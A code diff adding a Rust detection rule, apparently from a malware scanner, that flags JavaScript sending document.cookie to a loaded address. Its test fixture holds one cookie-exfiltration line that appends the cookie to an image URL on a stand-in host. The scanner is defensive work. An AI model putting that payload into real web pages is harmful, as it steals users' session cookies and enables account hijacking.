@@ -1,0 +1,18 @@
+//! `cookies-sent`.
+
+use crate::signals::{Atom, Signal, one};
+use crate::{ClassSet, Severity};
+
+pub(super) const SIGNAL: Signal = Signal {
+    id: "cookies-sent",
+    description: "Cookies are put into an address that is loaded.",
+    severity: Severity::Medium,
+    classes: ClassSet::MALWARE,
+    needs: &[one(&[Atom::Cookie]), one(&[Atom::AddressFromData])],
+    within: 40,
+    #[cfg(test)]
+    cases: crate::signals::Cases {
+        with: &["new Image().src='//c.example/?c='+document.cookie"],
+        without: &["document.cookie='a=b'"],
+    },
+};
